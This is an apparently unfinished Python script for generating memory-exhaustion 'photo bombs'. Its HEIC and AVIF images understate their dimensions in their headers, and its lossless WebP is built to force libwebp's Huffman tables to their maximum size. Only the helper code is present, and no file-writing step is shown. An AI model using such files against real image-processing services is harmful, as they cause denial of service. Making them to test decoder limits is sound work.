#!/usr/bin/python3
"""Makes photos that take more memory than they say: small files, small by their headers.

usage: make_photo_bombs.py OUT [WIDTH HEIGHT]

bomb.heic and bomb.avif hold a plain picture of WIDTH x HEIGHT (12288 x 10240: the encoders take
2 GB) and say 64 x 64.  bomb.webp is a lossless WebP of 1024 x 1024 pixels with a set of Huffman
codes for every block of 4 x 4 pixels, each of them as large in memory as it can be.

Needs PIL, numpy, and heif-enc (libheif-examples).
"""
import os
import struct
import sys

from PIL import Image

import heif_file
from photo_kinds import heif_enc

LONGEST = 15  # bits of a code


class Bits:
    """Bits from the lowest of each byte on, as VP8L has them ("WebP Lossless Bitstream")."""

    def __init__(self):
        self.data, self.held, self.count = bytearray(), 0, 0

    def put(self, value, bits):
        self.held |= value << self.count
        self.count += bits
        while self.count >= 8:
            self.data.append(self.held & 255)
            self.held >>= 8
            self.count -= 8

    def end(self):
        if self.count:
            self.put(0, 8 - self.count)
        return bytes(self.data)


def reverse(code, bits):
    return int(format(code, '0%db' % bits)[::-1], 2)


def canonical(lengths):
    """{symbol: (code, bits)}"""
    codes, code, last = {}, 0, 0
    for bits, symbol in sorted((bits, symbol) for symbol, bits in enumerate(lengths) if bits):
        code <<= bits - last
        codes[symbol], last = (reverse(code, bits), bits), bits
        code += 1
    return codes


def put_simple(bits, symbol):
    """A code of one symbol, which takes no bits."""
    bits.put(1, 1)
    bits.put(0, 1)
    bits.put(1, 1)
    bits.put(symbol, 8)


CODE_LENGTH_ORDER = (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15)


def put_lengths(bits, lengths):
    """A code by the length of each symbol's, themselves in a code of four bits a length."""
    bits.put(0, 1)
    bits.put(len(CODE_LENGTH_ORDER) - 4, 4)
    meta = [4 if length < 16 else 0 for length in range(19)]
    for symbol in CODE_LENGTH_ORDER:
        bits.put(meta[symbol], 3)
    bits.put(0, 1)  # all symbols are there
    codes = canonical(meta)
    for length in lengths:
        bits.put(*codes[length])


def deep_lengths(count):
    """Lengths of a whole code that leaves libwebp's table as large as such a code can make it."""
    # 255 prefixes of 8 bits hold one symbol of 9 bits each and more until the symbols are used up;
    # what is left of the code space goes to a chain down to 15 bits.
    lengths = [9] * (count - 6)
    space = sum(2.0 ** -bits for bits in lengths)
    for bits in range(10, LONGEST + 1):
        lengths.append(bits)
        space += 2.0 ** -bits
    lengths = fit(lengths[:count])
    return lengths


def fit(lengths):
    """Shortens the first lengths until the code is whole."""
    unit = 1 << LONGEST
    left = unit - sum(unit >> bits for bits in lengths)
    at = 0
    while left > 0 and at < len(lengths):
        gain = unit >> lengths[at]
        if lengths[at] > 1 and gain <= left:
            lengths[at] -= 1
            left -= gain
        else:
            at += 1
    return lengths
